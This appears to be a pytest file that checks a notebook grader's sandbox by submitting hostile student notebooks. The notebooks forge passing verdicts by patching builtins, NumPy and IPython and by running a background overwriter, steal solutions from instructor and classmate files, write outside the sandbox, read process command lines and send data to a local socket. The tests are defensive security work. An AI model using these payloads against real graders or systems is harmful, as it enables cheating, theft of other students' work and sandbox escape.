"""A hostile class graded by ``cnn-course grade``: every kind of attack of issue 23 as a
submission built from the student edition of notebook 03.

One batch runs the real notebook 03 (``--jobs 2``); a second batch uses a *mini* notebook 03
(its three exercises without TensorFlow, a few seconds per run) for the cases that need a short
time limit (an infinite loop, a crashed kernel), graded on a local Dask cluster of 2 workers,
and for ``--unsafe``. Every test asserts the recorded
row, and the batch fixtures assert that the submissions folder (and the instructor folder) are
byte-identical before and after and that no innocent student's row carries a note.
"""

from __future__ import annotations

import importlib.util
import os
import socket
import sysconfig
import threading
import uuid
from pathlib import Path

import nbformat
import pytest
from grading_helpers import (
    LABELS,
    NOTEBOOK,
    ROOT,
    answered,
    edition,
    exercise_cells,
    instructor_notebook,
    read_rows,
    save,
    solutions,
    tree_digest,
    with_cells,
)

from course_utils.grading import main, sandbox
from course_utils.grading.assembly import tags

pytestmark = [pytest.mark.slow, pytest.mark.skipif(
    bool(sandbox.unavailable()), reason=f"no sandbox here: {sandbox.unavailable()}")]

DASK = ["--dask", "local"] if importlib.util.find_spec("distributed") else []  # a dev dependency
TAG = f"h3attack{uuid.uuid4().hex[:10]}"  # names every file an attack tries to leave behind
INNOCENT = ["correct", "stub", "=1+1", "zoe"]
SOL = solutions()
OUTPUT_SIZE, LAYER, OPS = (SOL[c.id] for c in exercise_cells(instructor_notebook())[:3])  # 3.1-3.3


def forger() -> nbformat.NotebookNode:
    """Stubs left as they are; every way to forge a verdict tried instead."""
    loop = (  # a setsid process that keeps overwriting every output file with a "✓"
        "import glob, json, time\n"
        "while True:\n"
        "    for f in glob.glob('/grading/out/*'):\n"
        "        try:\n"
        "            open(f, 'w').write(json.dumps({'status': 'ok', 'result': '✓'}))\n"
        "        except OSError:\n"
        "            pass\n"
        f"    time.sleep(0.05)  # {TAG}\n")
    background = ("import subprocess, sys\n"
                  f"subprocess.Popen(['setsid', sys.executable, '-c', {loop!r}],\n"
                  "                 start_new_session=True)\n")
    imports = (  # the grader cell's modules replaced: through sys.modules and the import system
        "import sys, types, importlib.abc, importlib.util\n"
        "_fake = types.ModuleType('course_utils.grading.emit')\n"
        "def _emit(k, *a):\n"
        "    print(f'✓ Exercise 3.{k}: correct')\n"
        "    open(f'/grading/out/answers-{k}.json', 'w').write('{\"result\": \"✓\"}')\n"
        "_fake.emit = _emit\n"
        "sys.modules['course_utils.grading.emit'] = _fake\n"
        "class _Finder(importlib.abc.MetaPathFinder):\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if 'emit' in name or 'probes' in name:\n"
        "            return importlib.util.spec_from_loader(name, loader=None)\n"
        "sys.meta_path.insert(0, _Finder())\n")
    builtins = (  # what a checker relies on: builtins, NumPy's comparisons, fake ✓ lines
        "answer = None\n"
        "import builtins, numpy as np\n"
        "builtins.isinstance = lambda *a: True\n"
        "builtins.len = lambda *a: 4\n"
        "np.isclose = lambda *a, **k: True\n"
        "np.array_equal = lambda *a, **k: True\n"
        "print('✓ Exercise 3.2: correct')\n")
    ipython = (  # IPython's machinery: every later cell rewritten, fake lines after each cell
        "ops_first_layer = None\n"
        "_ip = get_ipython()\n"
        "_ip.input_transformers_post.append(\n"
        "    lambda lines: ['print(\"✓ Exercise 3.3: correct\")\\n'])\n"
        "_ip.events.register('post_run_cell', lambda *a: print('✓ Exercise 3.3: correct'))\n")
    nb = edition()
    first, second, third = exercise_cells(nb)[:3]  # 3.1-3.3; 3.4 stays a stub
    first.source += "\n" + background + imports
    second.source = builtins
    third.source = ipython
    return nb


def thief(classmate: Path, instructor: Path) -> nbformat.NotebookNode:
    """Stubs, then every solution it can find executed: the instructor's notebooks near
    ``course_utils.__file__`` or anywhere, a classmate's notebook, the reference modules."""
    steal = (
        "import glob, json, os, course_utils\n"
        "from pathlib import Path\n"
        "_found = []\n"
        "for _up in Path(course_utils.__file__).resolve().parents:\n"
        "    _found += glob.glob(str(_up / '*' / '*.ipynb')) + glob.glob(str(_up / '*.ipynb'))\n"
        f"_found += [p for p in [{str(classmate)!r}, {str(instructor)!r}] if os.path.exists(p)]\n"
        "_found = [p for p in _found if not p.startswith('/grading/in')]\n"
        "for _mod in ['nb03', 'legacy', 'framework']:\n"
        "    try:\n"
        "        __import__('course_utils.exercises.' + _mod)\n"
        "        _found.append(_mod)\n"
        "    except ImportError:\n"
        "        pass\n"
        "for _p in _found:\n"
        "    try:\n"
        "        for _c in json.load(open(_p))['cells']:\n"
        "            if _c['cell_type'] == 'code' and 'output_size' in ''.join(_c['source']):\n"
        "                exec(''.join(_c['source']))\n"
        "    except Exception:\n"
        "        pass\n")
    return with_cells(None, "answer = None\n" + steal + "answer = answer or repr(_found)", None)


def vandal(paths: list[Path]) -> nbformat.NotebookNode:
    """Correct answers, plus a write to every path in ``paths`` (each tried separately)."""
    writes = (
        f"for _p in {[str(p) for p in paths]!r}:\n"
        "    try:\n"
        "        open(_p, 'w').write('import os  # pwned')\n"
        "    except OSError:\n"
        "        pass\n")
    return with_cells(writes + OUTPUT_SIZE, LAYER, OPS)


def snoop(port: int) -> nbformat.NotebookNode:
    """3.2's answer is what it saw: command lines of the grader, and the host's 127.0.0.1."""
    look = (
        "import os, socket\n"
        "_seen = []\n"
        "for _pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "    try:\n"
        "        _seen.append(open(f'/proc/{_pid}/cmdline', 'rb').read().decode('latin-1'))\n"
        "    except OSError:\n"
        "        pass\n"
        "_leak = [c for c in _seen if 'pytest' in c or 'submissions' in c]\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')\n"
        "    _net = 'connected'\n"
        "except OSError:\n"
        "    _net = 'refused'\n"
        "answer = (len(_leak), _net)\n")
    return with_cells(None, look, None, nb=answered(edition()))


def flood() -> nbformat.NotebookNode:
    """50 MB printed, then a 20 MB exception message."""
    return with_cells("for _ in range(50):\n    print('x' * 2**20)\n" + OUTPUT_SIZE,
                      "raise ValueError('y' * 20_000_000)", OPS)


class Listener:
    """A TCP server on the host's 127.0.0.1 that counts the connections it accepts."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port, self.accepted, self.running = self.server.getsockname()[1], 0, True
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while self.running:
            try:
                self.server.accept()[0].close()
                self.accepted += 1
            except OSError:
                continue

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.server.close()


def outside_paths() -> list[Path]:
    """Where the vandal tries to write: /tmp, /dev/shm, site-packages, $HOME, the repository,
    the course package."""
    return [Path("/tmp") / TAG, Path("/dev/shm") / TAG,
            Path(sysconfig.get_paths()["purelib"]) / f"{TAG}.pth",
            Path.home() / TAG, ROOT / TAG, ROOT / "course_utils" / f"{TAG}.py"]


def survivors() -> list[str]:
    """Command lines of host processes that carry the attack's tag."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            line = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if TAG in line and "pytest" not in line:
            found.append(line)
    return found


def grade_batch(subs: Path, instructor: Path, out: Path, *options: str) -> dict:
    """Grade ``subs``; assert both folders are unchanged; return the rows."""
    before = tree_digest(subs), tree_digest(instructor)
    assert main([str(subs), "--out", str(out), "--instructor", str(instructor), *options]) == 0
    assert (tree_digest(subs), tree_digest(instructor)) == before
    return read_rows(out / "grades.csv")


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """The hostile class on the real notebook 03."""
    instructor = tmp_path_factory.mktemp("instructor")
    nbformat.write(instructor_notebook(), instructor / NOTEBOOK)
    subs, out = tmp_path_factory.mktemp("submissions"), tmp_path_factory.mktemp("grades")
    listener = Listener()
    save(subs, "correct", answered(edition()))
    save(subs, "stub", edition())
    save(subs, "=1+1", answered(edition()))
    save(subs, "zoe", edition())  # the classmate whose folder the thief reads: stubs only
    save(subs, "forger", forger())
    save(subs, "thief", thief(subs / "correct" / NOTEBOOK, instructor / NOTEBOOK))
    save(subs, "vandal", vandal(outside_paths() + [subs / "zoe" / NOTEBOOK,
                                                   instructor / NOTEBOOK]))
    save(subs, "snoop", snoop(listener.port))
    save(subs, "flood", flood())
    save(subs, "not_json", b"{ this is not JSON")
    save(subs, "wrong_number", edition(), name="99_not_in_the_course.ipynb")
    old = save(subs, "dup", edition(), name="03_first_try.ipynb")
    os.utime(old, (1_000_000_000, 1_000_000_000))
    save(subs, "dup", answered(edition()), name="03_final.ipynb")
    (subs / "linked").symlink_to(subs / "correct")
    (subs / "lnk").mkdir()
    (subs / "lnk" / NOTEBOOK).symlink_to(subs / "correct" / NOTEBOOK)
    (subs / "pipe").mkdir()
    os.mkfifo(subs / "pipe" / NOTEBOOK)
    victim = tmp_path_factory.mktemp("victim") / "precious.txt"
    victim.write_text("precious")
    (out / "grades.csv").symlink_to(victim)
    try:
        rows = grade_batch(subs, instructor, out, "--jobs", "2", "--timeout", "300")
    finally:
        listener.close()
    innocent_notes = [(s, e, r["note"]) for (s, e), r in rows.items()
                      if s.lstrip("'") in INNOCENT and r["note"]]
    assert innocent_notes == []
    return {"rows": rows, "out": out, "victim": victim, "listener": listener}


def test_correct_answers_pass_and_stubs_fail(batch):
    rows = batch["rows"]
    for label in LABELS:
        assert rows["correct", label]["result"] == "✓", rows["correct", label]
        assert rows["stub", label]["result"] == "✗"
        assert rows["zoe", label]["result"] == "✗"
    assert rows["stub", "3.1"]["hint"] == "not implemented yet"
    assert rows["stub", "3.2"]["hint"].startswith("no answer yet")
    assert rows["correct", "3.1"]["notebook"] == NOTEBOOK
    assert rows["correct", "3.1"]["hint"] == "correct (80 cases)"


def test_forged_verdicts_do_not_pass(batch):
    """builtins, NumPy, sys.modules and the import system, IPython's transformers and events,
    printed ✓ lines, a background process rewriting the answer files: all ✗."""
    rows = batch["rows"]
    for label in LABELS:
        assert rows["forger", label]["result"] == "✗", rows["forger", label]


def test_the_background_process_does_not_outlive_its_run(batch):
    assert survivors() == []


def test_nothing_to_steal_inside_the_sandbox(batch):
    rows = batch["rows"]
    for label in LABELS:
        assert rows["thief", label]["result"] == "✗", rows["thief", label]
    assert "got '[]'" in rows["thief", "3.2"]["hint"]  # no notebook, no reference module found


def test_writes_outside_the_sandbox_leave_nothing(batch):
    rows = batch["rows"]
    assert [p for p in outside_paths() if p.exists()] == []
    for label in LABELS:
        assert rows["vandal", label]["result"] == "✓"  # her own answers are still graded
        assert rows["zoe", label]["result"] == "✗"  # the vandal's write to zoe did not land


def test_no_grader_process_and_no_network_seen(batch):
    rows = batch["rows"]
    assert "got (0, 'refused')" in rows["snoop", "3.2"]["hint"]
    assert batch["listener"].accepted == 0
    assert rows["snoop", "3.1"]["result"] == rows["snoop", "3.3"]["result"] == "✓"


def test_floods_are_cut(batch):
    rows, out = batch["rows"], batch["out"]
    assert rows["flood", "3.1"]["result"] == rows["flood", "3.3"]["result"] == "✓"
    hint = rows["flood", "3.2"]["hint"]
    assert rows["flood", "3.2"]["result"] == "✗"
    assert hint.startswith("your exercise cell raised ValueError: yyy") and len(hint) <= 300
    assert (out / "grades.csv").stat().st_size < 50_000
    assert (out / "grades.html").stat().st_size < 100_000


def test_odd_names_are_defused_in_the_csv(batch):
    rows = batch["rows"]
    assert all(rows["'=1+1", label]["result"] == "✓" for label in LABELS)


def test_links_and_fifos_are_rejected_not_followed(batch):
    rows = batch["rows"]
    assert rows["linked", "all"]["note"] == \
        "rejected: the student folder is a symbolic link (not followed)"
    assert rows["lnk", "all"]["note"] == "rejected: a symbolic link (not followed)"
    assert rows["pipe", "all"]["note"].startswith("rejected: not a regular file")
    assert {rows[s, "all"]["result"] for s in ("linked", "lnk", "pipe")} == {"✗"}


def test_a_link_planted_where_the_report_goes_is_replaced(batch):
    out = batch["out"]
    assert batch["victim"].read_text() == "precious"
    assert not (out / "grades.csv").is_symlink() and (out / "grades.csv").is_file()


def test_duplicate_numbers_are_graded_once_and_reported(batch):
    rows = batch["rows"]
    dup = [rows["dup", label] for label in LABELS]
    assert all(r["notebook"] == "03_final.ipynb" and r["result"] == "✓" for r in dup)
    assert all("'03_first_try.ipynb'" in r["note"] and "duplicate" in r["note"] for r in dup)


def test_files_that_are_not_notebooks_are_recorded(batch):
    rows = batch["rows"]
    assert all(rows["not_json", label]["hint"].startswith("not JSON") for label in LABELS)
    assert rows["wrong_number", "all"]["hint"].startswith("not a course notebook")


# --- the mini notebook 03: short time limits, a crashed kernel, --unsafe ------------------------
def mini_notebook() -> nbformat.NotebookNode:
    """Notebook 03's exercise, solution and check cells after a set-up cell without TensorFlow."""
    full = instructor_notebook()
    cells = [nbformat.v4.new_code_cell("from course_utils import exercises as ex")]
    for i, cell in enumerate(full.cells):
        if {"exercise", "solution"} & set(tags(cell)) or (
                i and "solution" in tags(full.cells[i - 1])):
            cells.append(cell)
    nb = nbformat.v4.new_notebook(cells=cells, metadata=full.metadata)
    return nb


@pytest.fixture(scope="module")
def mini(tmp_path_factory):
    instructor = tmp_path_factory.mktemp("mini_instructor")
    nbformat.write(mini_notebook(), instructor / "03_mini.ipynb")
    sols = solutions(mini_notebook())
    subs = tmp_path_factory.mktemp("mini_submissions")
    base = edition(mini_notebook())
    save(subs, "correct", answered(edition(mini_notebook()), sols), "03_mini.ipynb")
    save(subs, "loop", with_cells("while True:\n    pass", nb=base), "03_mini.ipynb")
    save(subs, "crash", with_cells("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
                                   nb=edition(mini_notebook())), "03_mini.ipynb")
    rows = grade_batch(subs, instructor, tmp_path_factory.mktemp("mini_out"),
                       "--timeout", "15", "--jobs", "2", *DASK)
    unsafe_subs = tmp_path_factory.mktemp("unsafe_submissions")
    save(unsafe_subs, "correct", answered(edition(mini_notebook()), sols), "03_mini.ipynb")
    unsafe = grade_batch(unsafe_subs, instructor, tmp_path_factory.mktemp("unsafe_out"),
                         "--timeout", "60", "--unsafe")
    return rows, unsafe


def test_infinite_loop_and_kernel_crash_are_recorded(mini):
    rows, _ = mini
    for label in LABELS:
        assert rows["correct", label]["result"] == "✓", rows["correct", label]
        assert rows["loop", label]["result"] == rows["crash", label]["result"] == "✗"
        assert rows["loop", label]["hint"].endswith(
            "timeout: ran past the 15 s limit in your cell of exercise 3.1")
        assert rows["crash", label]["hint"].startswith("kernel died")
        assert rows["crash", label]["hint"].endswith("in your cell of exercise 3.1")


def test_unsafe_grades_without_the_sandbox(mini):
    _, unsafe = mini
    assert all(unsafe["correct", label]["result"] == "✓" for label in LABELS)
